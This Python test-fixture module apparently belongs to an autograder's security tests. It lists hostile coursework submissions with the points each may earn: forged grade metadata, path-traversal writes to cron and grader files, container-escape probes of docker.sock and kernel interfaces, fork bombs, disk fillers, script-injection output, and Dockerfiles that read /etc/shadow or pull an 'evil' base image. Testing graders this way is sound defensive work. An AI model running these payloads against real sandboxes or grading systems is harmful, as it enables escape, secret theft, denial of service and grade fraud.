"""Submissions that want more than they earned: each with what it tries, and what it may have."""

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.learners import POINTS, RIGHT, code_cell

ALL = sum(POINTS.values())
# A server that ends with an error when PORT is no number has that point, whatever else it does.
LOUD = POINTS["fails_loudly"]
BASE = "FROM python:3.13-slim\n"
SERVE = 'COPY . /app\nCMD ["python", "-u", "/app/server.py"]\n'


@dataclass(frozen=True)
class Hostile:
    """One submission.

    Args:
        tries: what it wants.
        earned: the most points that it may have.
        files: that it writes: `server_py`, `ops_sh`, `Dockerfile`.
        change: what it does to its notebook; gives a notebook or the text of one.
        seen: what its script tells of the attack: that it was made, and what came of it.
    """

    tries: str
    earned: int
    files: dict[str, str]
    change: Callable[[Any], Any] = lambda notebook: notebook
    seen: str = ""


def _check_cells(notebook: Any) -> list[Any]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _forged_outputs(notebook: Any) -> Any:
    for cell in _check_cells(notebook):
        cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                            "data": {"text/plain": "99"}}]  # fmt: skip
    return notebook


def _changed_points(notebook: Any) -> Any:
    for cell in _check_cells(notebook):
        cell["metadata"]["nbgrader"]["points"] = 99
    return notebook


def _skipped(notebook: Any) -> Any:
    for cell in _check_cells(notebook):
        cell["metadata"]["tags"] = ["skip-execution"]
        cell["source"] = "99"
    return notebook


def _without_checks(notebook: Any) -> Any:
    gone = _check_cells(notebook)
    notebook["cells"] = [c for c in notebook["cells"] if c not in gone]
    return notebook


def _twice(notebook: Any) -> Any:
    notebook["cells"] += _check_cells(notebook)[:1]
    return notebook


def _crowded(notebook: Any) -> Any:
    notebook["cells"] += [code_cell("1")] * 10_000
    return notebook


def _other_module(notebook: Any) -> Any:
    notebook["metadata"]["coursework"] = {"module": "../../etc"}
    return notebook


def _writes(path: str) -> Callable[[Any], Any]:
    def change(notebook: Any) -> Any:
        notebook["cells"].append(code_cell(f"%%writefile {path}\n{RIGHT}"))
        return notebook

    return change


NOTEBOOKS = {
    "forged_outputs": Hostile("outputs that say 99 points", 0, {}, _forged_outputs),
    "changed_points": Hostile("99 points a check, in nbgrader's metadata", 0, {}, _changed_points),
    "skipped_checks": Hostile("check cells that are not run", 0, {}, _skipped),
    "no_check_cells": Hostile("cells without checks", ALL, {"server_py": RIGHT}, _without_checks),
    "double_check_cell": Hostile("a check's points twice", ALL, {"server_py": RIGHT}, _twice),
    "line_of_50_mb": Hostile("the grader's memory", 0, {},
                             lambda n: json.dumps(n)[:-1] + ', "x": "' + "x" * 50_000_001 + '"}'),
    "ten_thousand_cells": Hostile("the grader's time", ALL, {"server_py": RIGHT}, _crowded),
    "not_a_number": Hostile("NaN where a number stands", 0, {},
                            lambda n: json.dumps(n).replace('"nbformat": 4', '"nbformat": NaN')),
    "deep_json": Hostile("the parser's stack", 0, {}, lambda _: "[" * 200_000),
    "path_upwards": Hostile("checks of its own", 0, {}, _writes("../../graders/x/checks.py")),
    "path_absolute": Hostile("a file of the machine", 0, {}, _writes("/etc/cron.d/x")),
    "path_expanded": Hostile("a name that the kernel expands", 0, {}, _writes("{HOME}/x")),
    "other_module": Hostile("a module that is a path", 0, {"server_py": RIGHT}, _other_module),
}  # fmt: skip

_LOOK = """
import json, os, socket, glob
found = []
def look(name, try_it):
    try:
        if try_it(): found.append(name)
    except OSError: pass
def reach(family, address):
    with socket.socket(family) as s:
        s.settimeout(0.3); s.connect(address); return True
for path in ("/var/run/docker.sock", "/run/docker.sock", "/socket/docker.sock"):
    look(path, lambda: reach(socket.AF_UNIX, path))
gateways = [".".join(str(int(l.split()[2][i:i+2], 16)) for i in (6, 4, 2, 0))
            for l in open("/proc/net/route").readlines()[1:] if l.split()[1] == "00000000"]
for host in gateways:
    for port in (2375, 2376, 10250):
        look(f"{host}:{port}", lambda: reach(socket.AF_INET, (host, port)))
for pattern in ("/app/**/checks.py", "/graders", "/solutions", "/submitted", "/template/seed"):
    look(pattern, lambda: glob.glob(pattern))
"""
_BREAK_OUT = """
import ctypes, os, subprocess
found = []
libc = ctypes.CDLL(None, use_errno=True)
def worked(name, code):
    if code == 0: found.append(name)
worked("mount", libc.mount(b"proc", b"/mnt", b"proc", 0, None))
worked("unshare", libc.unshare(0x20000))
worked("sethostname", libc.sethostname(b"owned", 5))
worked("chroot-escape", libc.mount(b"/", b"/mnt", None, 4096, None))
for name, path in (("sysrq", "/proc/sysrq-trigger"), ("core", "/proc/sys/kernel/core_pattern"),
                   ("cgroup", "/sys/fs/cgroup/cgroup.procs")):
    try:
        open(path, "r+b").close(); found.append(name)
    except OSError: pass
try:
    os.mknod("/sda", 0o60666, os.makedev(254, 0)); open("/sda", "rb").close(); found.append("mknod")
except OSError: pass
"""
_SAY = RIGHT.replace('b"hello"', "json.dumps(found).encode()")


def _raw(code: str) -> str:
    """Return a server that answers each connection with what a piece of code sends on `c`."""
    return (
        "import os, socket, time\n"
        's = socket.create_server(("0.0.0.0", int(os.environ.get("PORT", "3000"))), backlog=99)\n'
        "while True:\n    c, _ = s.accept(); c.settimeout(5)\n    try:\n"
        + "".join(f"        {line}\n" for line in code.splitlines())
        + "    except OSError: pass\n    c.close()\n"
    )


_HEAD = 'b"HTTP/1.1 200 OK\\r\\nContent-Type: text/plain\\r\\n'
SERVERS = {
    "looks_around": Hostile("sockets of engines, checks, others' answers", ALL,
                            {"server_py": "import json\n" + _LOOK + _SAY}),
    "breaks_out": Hostile("mounts, devices, the kernel's switches", ALL,
                          {"server_py": "import json\n" + _BREAK_OUT + _SAY}),
    "fork_bomb": Hostile("every process", LOUD, {"server_py":
        "import os\nwhile True: os.fork()\n"}),
    "memory_hog": Hostile("all memory", LOUD, {"server_py":
        "x = []\nwhile True: x.append(bytearray(1 << 24))\n"}),
    "endless_log": Hostile("the log's disk", LOUD, {"server_py":
        "while True: print('x' * 1000)\n"}),
    "disk_filler": Hostile("the disk", ALL, {"server_py":
        "try:\n    with open('/x', 'wb') as f:\n        while True: f.write(bytes(1 << 20))\n"
        "except OSError: pass\n" + RIGHT}),
    "slow_headers": Hostile("the grader's patience", LOUD, {"server_py": _raw(
        'for b in b"HTTP/1.1 200 OK" * 99: c.send(bytes([b])); time.sleep(0.2)')}),
    "endless_body": Hostile("the grader's memory", LOUD, {"server_py": _raw(
        f'c.sendall({_HEAD}\\r\\n")\nwhile True: c.sendall(bytes(1 << 16))')}),
    "huge_header": Hostile("the parser's memory", LOUD, {"server_py": _raw(
        f'c.sendall({_HEAD}X: ")\nwhile True: c.sendall(b"x" * 65536)')}),
    "closes_early": Hostile("a whole reply for half of one", LOUD, {"server_py": _raw(
        f'c.sendall({_HEAD}Content-Length: 5\\r\\n\\r\\nhe")')}),
    "redirects_inwards": Hostile("that the grader asks for it", LOUD, {"server_py": _raw(
        'c.sendall(b"HTTP/1.1 302 Found\\r\\nLocation: unix:/socket/docker.sock\\r\\n'
        'Content-Length: 0\\r\\n\\r\\n")')}),
    "escapes_and_tags": Hostile("the instructor's terminal and browser", ALL, {"server_py":
        'print("\\x1b[2J\\x1b]0;owned\\x07<script>alert(1)</script>")\n'
        + RIGHT.replace('b"hello"', 'b"\\x1b[31m<script>alert(2)</script>"')}),
    "forged_report": Hostile("a report in the log", 0, {"server_py":
        'print(\'{"schema": 1, "points": 10, "checks": []}\')\nprint("listening on 4000")\n'
        'print("10 passed")\n'}),
    "outlives_its_stop": Hostile("to run on", ALL, {"server_py":
        "import signal\nfor n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\n" + RIGHT}),
}  # fmt: skip

BUILDS = {
    "endless_build": Hostile("the grader's time", 0, {"Dockerfile": f"{BASE}RUN sleep 9999\n"}),
    "build_fork_bomb": Hostile("every process", 0, {"Dockerfile":
        BASE + 'RUN python -c "import os\\n\\\nwhile True: os.fork()" || python -c "while True:'
        ' __import__(\'os\').fork()"\n'}),
    "build_fills_the_disk": Hostile("the disk", 0, {"Dockerfile":
        f"{BASE}RUN head -c 3G /dev/zero > /x\n{SERVE}"}),
    "layer_of_zeros": Hostile("time and disk of whoever unpacks it", 0, {"Dockerfile":
        f"{BASE}RUN truncate -s 200G /x\n"}),
    "links_in_a_layer": Hostile("files of the machine, by links", ALL, {"server_py": RIGHT,
        "Dockerfile": f"{BASE}RUN ln -s / /app && ln -s /proc/1/root /r\n{SERVE}"}),
    "foreign_frontend": Hostile("a program of its own as the builder", 0, {"Dockerfile":
        f"# syntax=evil/frontend:1\n{BASE}{SERVE}"}),
    "foreign_base": Hostile("an image of elsewhere", 0, {"Dockerfile": f"FROM evil:1\n{SERVE}"}),
    "forged_labels": Hostile("to pass for an image of the course, and to stay", ALL, {
        "server_py": RIGHT, "Dockerfile":
        f"{BASE}LABEL course.image=x course.run=00000000 course.module=../..\n{SERVE}"}),
    "build_reaches_out": Hostile("the network", 0, {"Dockerfile": BASE +
        "RUN python -c \"import urllib.request as u; u.urlopen('http://example.invalid')\"\n"}),
    "mounts_the_host": Hostile("the machine, by a build's mount", 0, {"Dockerfile":
        f"{BASE}RUN --mount=type=bind,from=/,target=/host cat /host/etc/shadow\n"}),
    "insecure_build": Hostile("a build without confinement", 0, {"Dockerfile":
        f"{BASE}RUN --security=insecure mount -t proc proc /mnt\n"}),
    "host_network_build": Hostile("the sandbox's own network", 0, {"Dockerfile":
        f"{BASE}RUN --network=host true\nRUN exit 1\n"}),
}  # fmt: skip
SUBMISSIONS = {**NOTEBOOKS, **SERVERS, **BUILDS}
# Of each kind the first is graded in every run.
KINDS = {
    "marks of its own": (
        "changed_points", "forged_outputs", "skipped_checks", "no_check_cells",
        "double_check_cell", "forged_report"),
    "more than a reader can take": (
        "deep_json", "line_of_50_mb", "ten_thousand_cells", "not_a_number"),
    "another place": ("path_upwards", "path_absolute", "path_expanded", "other_module"),
    "out of its container": ("breaks_out", "looks_around"),
    "all that a server can take": ("fork_bomb", "memory_hog", "endless_log", "disk_filler"),
    "an answer without end or truth": (
        "endless_body", "slow_headers", "huge_header", "closes_early", "redirects_inwards"),
    "terminal and browser": ("escapes_and_tags",),
    "to run on": ("outlives_its_stop",),
    "all that a build can take": (
        "build_fills_the_disk", "endless_build", "build_fork_bomb", "layer_of_zeros"),
    "out of its build": (
        "mounts_the_host", "build_reaches_out", "insecure_build", "host_network_build",
        "links_in_a_layer"),
    "an image of elsewhere": ("foreign_base", "foreign_frontend", "forged_labels"),
}  # fmt: skip
